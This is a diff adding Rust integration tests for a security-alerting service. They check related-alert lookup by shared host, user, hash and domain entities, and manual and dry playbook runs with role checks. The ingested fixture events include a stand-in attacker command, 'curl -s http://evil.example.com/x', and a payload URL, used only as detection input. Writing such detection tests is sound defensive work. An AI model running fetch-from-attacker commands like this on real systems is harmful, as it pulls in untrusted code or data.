@@ -510,3 +510,307 @@ async fn incidents_triage_suppressions_playbooks_and_approvals() {
     }
     app.stop().await;
 }
+
+/// The alert list once it holds `n` alerts (detection runs behind the
+/// ingest answer).
+async fn wait_alerts(app: &TestApp, n: usize) -> serde_json::Value {
+    app.wait_detected().await;
+    for _ in 0..500 {
+        let alerts = app.get("/api/v1/alerts", Role::Viewer).await.json();
+        if alerts["items"].as_array().map_or(0, Vec::len) >= n {
+            return alerts;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    }
+    panic!("fewer than {n} alerts");
+}
+
+/// Process, file hash and domain entities from the events' ECS fields, and
+/// `GET /api/v1/alerts/{id}/related` over the entity index. See: #7
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn related_alerts_by_shared_entities() {
+    let app = TestApp::start().await;
+    let hash = "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08";
+    let lines = [
+        r#"{"@timestamp":"2026-11-26T10:00:00Z","user":{"name":"root"},"host":{"name":"h1"},"process":{"executable":"/usr/bin/curl","command_line":"curl -s http://evil.example.com/x"},"dns":{"question":{"name":"Evil.Example.com."}}}"#.to_string(),
+        format!(r#"{{"@timestamp":"2026-11-26T10:00:01Z","user":{{"name":"root"}},"host":{{"name":"h2"}},"file":{{"hash":{{"sha256":"{hash}"}}}},"url":{{"full":"https://evil.example.com/payload"}}}}"#),
+        format!(r#"{{"@timestamp":"2026-11-26T10:00:02Z","user":{{"name":"root"}},"host":{{"name":"h3"}},"file":{{"hash":{{"sha256":"{hash}"}}}}}}"#),
+        r#"{"@timestamp":"2026-11-26T10:00:03Z","user":{"name":"alice"},"host":{"name":"h1"}}"#.to_string(),
+    ];
+    let r = app.ingest(lines.join("\n") + "\n").await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    let alerts = wait_alerts(&app, 3).await;
+    let items = alerts["items"].as_array().unwrap();
+    assert_eq!(items.len(), 3, "{alerts:#}");
+    let by_host = |h: &str| {
+        items
+            .iter()
+            .find(|a| a["entities"]["host"] == h)
+            .unwrap_or_else(|| panic!("no alert on {h}"))
+            .clone()
+    };
+    let (a1, a2, a3) = (by_host("h1"), by_host("h2"), by_host("h3"));
+    assert_eq!(a1["entities"]["process"], "/usr/bin/curl");
+    assert_eq!(
+        a1["entities"]["command_line"],
+        "curl -s http://evil.example.com/x"
+    );
+    assert_eq!(a1["entities"]["domain"], "evil.example.com");
+    assert_eq!(a2["entities"]["file_hash"], hash.to_ascii_lowercase());
+    assert_eq!(a2["entities"]["domain"], "evil.example.com");
+    assert_eq!(a3["entities"]["domain"], serde_json::Value::Null);
+
+    let related = |id: &serde_json::Value| {
+        let app = &app;
+        let id = id.as_str().unwrap().to_owned();
+        async move {
+            let r = app
+                .get(&format!("/api/v1/alerts/{id}/related"), Role::Viewer)
+                .await;
+            assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+            let mut out: Vec<(String, Vec<String>)> = r.json()["items"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|x| {
+                    (
+                        x["alert"]["entities"]["host"].as_str().unwrap().to_owned(),
+                        x["shared"]
+                            .as_array()
+                            .unwrap()
+                            .iter()
+                            .map(|s| {
+                                format!(
+                                    "{}={}",
+                                    s["kind"].as_str().unwrap(),
+                                    s["value"].as_str().unwrap()
+                                )
+                            })
+                            .collect(),
+                    )
+                })
+                .collect();
+            out.sort();
+            out
+        }
+    };
+    let h = hash.to_ascii_lowercase();
+    assert_eq!(
+        related(&a1["id"]).await,
+        [
+            (
+                "h2".to_string(),
+                vec!["user=root".to_string(), "domain=evil.example.com".into()]
+            ),
+            ("h3".to_string(), vec!["user=root".to_string()]),
+        ]
+    );
+    assert_eq!(
+        related(&a3["id"]).await,
+        [
+            ("h1".to_string(), vec!["user=root".to_string()]),
+            (
+                "h2".to_string(),
+                vec!["user=root".to_string(), format!("file_hash={h}")]
+            ),
+        ]
+    );
+    // The limit, an unknown alert, and a reader role only.
+    let r = app
+        .get(
+            &format!(
+                "/api/v1/alerts/{}/related?limit=1",
+                a2["id"].as_str().unwrap()
+            ),
+            Role::Viewer,
+        )
+        .await;
+    assert_eq!(r.json()["items"].as_array().unwrap().len(), 1);
+    let r = app
+        .get(
+            "/api/v1/alerts/00000000-0000-4000-8000-000000000000/related",
+            Role::Viewer,
+        )
+        .await;
+    r.problem(404);
+    let r = app
+        .get(
+            &format!("/api/v1/alerts/{}/related", a2["id"].as_str().unwrap()),
+            Role::Ingest,
+        )
+        .await;
+    r.problem(403);
+}
+
+const MANUAL: &str = r#"id: triage-host
+name: Triage a host
+trigger: {manual: {inputs: [host]}}
+steps:
+  - id: case
+    create_incident:
+      title: "Check {{ inputs.host }}{% if alert %} ({{ alert.rule_id }}){% endif %}"
+  - id: ok
+    approval: { message: "Isolate {{ inputs.host }}?", timeout: 1h }
+  - id: note
+    add_note: { text: "isolating {{ inputs.host }}" }
+"#;
+
+/// `POST /api/v1/playbooks/{id}/runs`: a dry run shows the rendered steps
+/// and stores nothing; a run is stored as the CLI stores it (due for the
+/// server's runner), for an alert or not; errors name what is wrong. See: #7
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn manual_runs_and_dry_runs_through_the_api() {
+    let app = TestApp::start().await;
+    let r = req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks",
+        Role::Admin,
+        "application/yaml",
+        MANUAL,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
+
+    // Dry run: every step rendered, approval assumed, nothing stored.
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/triage-host/runs",
+        Role::Analyst,
+        r#"{"inputs":{"host":"web-7"},"dry_run":true}"#,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    let d = r.json();
+    assert_eq!(d["dry_run"], true);
+    assert_eq!(d["status"], "succeeded", "{d:#}");
+    let log = d["log"].as_array().unwrap();
+    let msg = |step: &str| {
+        log.iter()
+            .filter(|e| e["step"] == step && e["event"] == "dry_run")
+            .map(|e| e["message"].as_str().unwrap().to_owned())
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    assert!(msg("case").contains("Check web-7"), "{d:#}");
+    assert!(msg("ok").contains("assuming approved"), "{d:#}");
+    assert!(msg("note").contains("isolating web-7"), "{d:#}");
+    let runs = app.get("/api/v1/runs", Role::Viewer).await.json();
+    assert_eq!(runs["items"].as_array().unwrap().len(), 0, "{runs:#}");
+    assert_eq!(
+        app.store
+            .list_incidents(TenantId::DEFAULT, None, None, 10)
+            .await
+            .unwrap()
+            .len(),
+        0
+    );
+
+    // A real run: stored running with its inputs, due for the runner.
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/triage-host/runs",
+        Role::Analyst,
+        r#"{"inputs":{"host":"web-7"}}"#,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
+    let run = r.json();
+    assert_eq!(run["status"], "running", "{run:#}");
+    assert_eq!(run["playbook"], "triage-host");
+    assert_eq!(run["trigger_kind"], "manual");
+    let id = run["id"].as_str().unwrap().to_owned();
+    let stored = app
+        .store
+        .get_run(TenantId::DEFAULT, &id)
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(stored.state["ctx"]["inputs"]["host"], "web-7");
+    let due = app.store.due_runs(app.clock.now(), 10).await.unwrap();
+    assert!(due.iter().any(|(_, r)| r.id == id), "not due: {due:?}");
+    // Audited with the caller as principal.
+    let audit = app.get("/api/v1/audit", Role::Admin).await.json();
+    assert!(
+        audit.to_string().contains(&format!("run:{id}")),
+        "{audit:#}"
+    );
+
+    // For an alert: the trigger object is the alert.
+    app.ingest(common::ndjson(1, 1)).await;
+    let alerts = wait_alerts(&app, 1).await;
+    let alert_id = alerts["items"][0]["id"].as_str().unwrap().to_owned();
+    let body = json!({"inputs": {"host": "h0"}, "alert": alert_id, "dry_run": true}).to_string();
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/triage-host/runs",
+        Role::Analyst,
+        &body,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    assert!(r.text().contains("Check h0 (root-user)"), "{}", r.text());
+    let body = json!({"inputs": {"host": "h0"}, "alert": alert_id}).to_string();
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/triage-host/runs",
+        Role::Analyst,
+        &body,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
+    assert_eq!(r.json()["trigger_kind"], "alert");
+    assert!(
+        r.json()["trigger_id"]
+            .as_str()
+            .unwrap()
+            .starts_with(&alert_id)
+    );
+
+    // Errors: unknown playbook, unknown alert, unknown field, viewer role.
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/nope/runs",
+        Role::Analyst,
+        "{}",
+    )
+    .await;
+    r.problem(404);
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/triage-host/runs",
+        Role::Analyst,
+        r#"{"alert":"00000000-0000-4000-8000-000000000000"}"#,
+    )
+    .await;
+    assert!(
+        r.problem(400)["detail"]
+            .as_str()
+            .unwrap()
+            .contains("no alert")
+    );
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/triage-host/runs",
+        Role::Analyst,
+        r#"{"dryrun":true}"#,
+    )
+    .await;
+    r.problem(400);
+    let r = json_req(
+        &app,
+        Method::POST,
+        "/api/v1/playbooks/triage-host/runs",
+        Role::Viewer,
+        "{}",
+    )
+    .await;
+    r.problem(403);
+}
